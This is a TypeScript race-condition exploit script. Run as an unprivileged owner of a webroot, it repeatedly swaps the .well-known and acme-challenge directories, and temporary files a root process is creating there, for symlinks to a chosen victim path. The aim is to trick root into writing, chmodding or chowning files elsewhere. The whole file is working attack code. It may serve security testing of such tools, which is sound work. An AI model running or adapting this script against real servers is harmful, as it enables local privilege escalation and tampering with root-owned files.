// Run as another user: does whatever the owner of a webroot can do to make root write, chmod or chown elsewhere.
import { lstatSync, mkdirSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

const [webroot = '', victim = '', seconds = '1'] = process.argv.slice(2);
const wellKnown = join(webroot, '.well-known');
const challenge = join(wellKnown, 'acme-challenge');
const endsAt = performance.now() + Number(seconds) * 1000;

/** Each is over in microseconds, and most fail: what they do to each other is part of it. */
const moves: (() => void)[] = [
  () => {
    rmSync(wellKnown, { recursive: true });
    symlinkSync(victim, wellKnown);
  },
  () => {
    mkdirSync(wellKnown);
  },
  () => {
    rmSync(challenge, { recursive: true });
    symlinkSync(victim, challenge);
  },
  () => {
    mkdirSync(challenge, 0o777);
  },
  () => {
    exchange(wellKnown, victim);
  },
  () => {
    exchange(challenge, victim);
  },
  () => {
    rmSync(wellKnown, { recursive: true });
  },
  () => {
    intercept(webroot);
  },
  () => {
    intercept(wellKnown);
  },
  () => {
    intercept(challenge);
  },
];

/** Puts a link where there was something, by two renames. */
function exchange(path: string, target: string): void {
  const link = join(webroot, `link-${String(process.pid)}`);
  const aside = join(webroot, `aside-${String(process.pid)}`);
  rmSync(link, { force: true });
  rmSync(aside, { recursive: true, force: true });
  symlinkSync(target, link);
  renameSync(path, aside);
  renameSync(link, path);
}

/** What root is just making is exchanged: a file for a link to a file of root's, a directory for a link to a directory. */
function intercept(directory: string): void {
  for (const name of readdirSync(directory)) {
    if (!/^\.?t.*(?:\.tmp)?$/.test(name)) continue;
    const path = join(directory, name);
    const isDirectory = lstatSync(path).isDirectory();
    exchange(path, isDirectory ? victim : join(victim, 'secret'));
  }
}

let done = 0;
while (performance.now() < endsAt) {
  // In runs of one kind: root has to be met in the middle of a step.
  const move = moves[Math.floor(Math.random() * moves.length)];
  const until = performance.now() + Math.random() * 3;
  while (performance.now() < until) {
    try {
      move?.();
      done += 1;
    } catch {
      // Root, or another move, was first.
    }
  }
}
process.stdout.write(String(done));
